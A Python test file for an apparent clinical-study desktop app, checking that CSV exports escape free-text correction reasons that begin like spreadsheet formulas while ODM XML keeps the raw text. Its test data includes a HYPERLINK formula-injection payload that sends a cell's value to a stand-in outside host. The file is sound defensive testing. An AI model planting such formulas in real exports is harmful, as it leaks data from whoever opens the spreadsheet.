"""Free text cannot become a spreadsheet formula in the CSV files; ODM keeps the raw text."""

from __future__ import annotations

import csv
from datetime import timedelta
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest

from respine_desktop import exports, storage
from respine_desktop.exports.csv_export import free_text
from tests.support.exports import TODAY, controlled_clock, do_visit, new_db
from tests.support.storage import coord, inv

REASONS = {
    '=HYPERLINK("http://x.example/?"&A1,"open")': "'",
    "+1 typed on the wrong line": "'",
    "-3.5 mm was wrong": "'",
    "@SUM(A1:A9)": "'",
    "\tleading tab": "'",
    "\rleading carriage return": "'",
    "patient ticked the wrong statement": "",
    "a = b, not a formula": "",
}


@pytest.mark.req("EXP-04")
def test_free_text_gets_a_leading_apostrophe_only_when_it_starts_like_a_formula() -> None:
    for text, prefix in REASONS.items():
        assert free_text(text) == prefix + text
    assert free_text("") == ""


def test_reasons_are_escaped_in_csv_numbers_untouched_raw_in_odm(tmp_path: Path) -> None:
    # Storage strips a reason's outer white space: a stored reason never starts with a tab.
    stored = {r: p for r, p in REASONS.items() if r == r.strip()}
    items = [f"odi_{k:02d}" for k in range(1, len(stored) + 1)]
    with controlled_clock() as c:
        with new_db(tmp_path / "s.db") as db:
            day0 = TODAY - timedelta(days=3)
            storage.register_subject(db, "RSP-01-007", day0=day0, staff=coord(db))
            s = do_visit(db, c, "RSP-01-007", "M0", day0, vas=40.0, odi=2, sf36=2)
            for item, reason in zip(items, stored, strict=True):
                storage.correct_answer(db, s, item, 5, staff=inv(db), reason=reason)
        with storage.open_database(tmp_path / "s.db", readonly=True) as db:
            exports.export_odm(db, tmp_path / "h.xml", history=True)
            exports.export_csv(db, tmp_path / "csv")
            exports.export_redcap(db, tmp_path / "redcap")
    with open(tmp_path / "csv" / "answers_long.csv", newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    found = {r["item"]: r["reason"] for r in rows if r["reason"]}
    assert found == {i: stored[r] + r for i, r in zip(items, stored, strict=True)}
    # No other cell gains an apostrophe, and the visit scores (which include negative changes
    # from baseline in other studies) are written as numbers.
    for name in ("visits_wide.csv", "codebook.csv"):
        with open(tmp_path / "csv" / name, newline="", encoding="utf-8") as f:
            assert not any(v.startswith("'") for row in csv.reader(f) for v in row)
    for path in (tmp_path / "redcap").iterdir():
        assert "'=" not in path.read_text(encoding="utf-8")
    ns = {"odm": "http://www.cdisc.org/ns/odm/v1.3"}
    odm = [e.text for e in ET.parse(tmp_path / "h.xml").iter(f"{{{ns['odm']}}}ReasonForChange")]
    assert sorted(t or "" for t in odm) == sorted(stored)
